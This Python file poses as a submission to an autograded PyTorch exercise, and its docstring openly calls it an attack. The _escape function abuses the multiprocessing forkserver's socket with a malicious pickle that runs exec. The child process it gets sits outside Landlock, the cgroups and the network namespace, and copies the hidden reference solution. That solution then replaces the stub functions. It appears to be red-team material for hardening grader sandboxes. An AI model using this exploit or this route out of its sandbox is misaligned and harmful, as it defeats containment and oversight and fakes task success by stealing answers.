"""Attack: ask the multiprocessing forkserver (unconfined, its socket path still in memory) for a process.

The worker is a fork of the forkserver, so it knows the forkserver's Unix
socket. Connecting and sending a fork request with a pickled "process" gets a
fresh child of the forkserver: outside Landlock, the cgroups and the network
namespace, with every capability. That child copies the reference solution
into the worker's folder, and the worker uses it.
"""

import os
import pickle
import socket
import struct
from pathlib import Path

import torch


def _escape() -> str | None:  # ATTACK
    try:
        import multiprocessing.forkserver as forkserver
        from multiprocessing import reduction

        address = forkserver._forkserver._forkserver_address
        stolen = Path.cwd() / "stolen.py"
        code = ("import os, pathlib, autograder\n"
                "root = pathlib.Path(autograder.__file__).resolve().parents[1]\n"
                f"pathlib.Path({str(stolen)!r}).write_text((root / 'solutions/01/tensors.py').read_text())\n"
                "os._exit(0)\n")

        class Payload:
            def __reduce__(self):
                return (exec, (code,))

        parent_r, child_w = os.pipe()
        child_r, parent_w = os.pipe()
        alive_r, alive_w = os.pipe()
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(5)
            client.connect(address)
            reduction.sendfds(client, [child_r, child_w, alive_r, alive_w])
        for fd in (child_r, child_w):
            os.close(fd)
        os.read(parent_r, 8)  # the pid of the new process
        os.write(parent_w, pickle.dumps({}) + pickle.dumps(Payload()))
        os.close(parent_w)
        struct.unpack("q", os.read(parent_r, 8))  # its exit status
        return stolen.read_text()
    except (OSError, AttributeError, TypeError, struct.error):
        return None


def linear_combination(xs, weights):
    return torch.zeros(())


def affine(x, W, b):
    return torch.zeros(())


def derivative(f, x0):
    return 0.0


def select_device(prefer="auto"):
    return torch.device("meta")


def make_loader(x, y, batch_size, shuffle=False, seed=None):
    return None


def train_step(model, loss_fn, optimizer, xb, yb):
    return 0.0


_SOURCE = _escape()
if _SOURCE:
    exec(compile(_SOURCE, __file__, "exec"), globals())
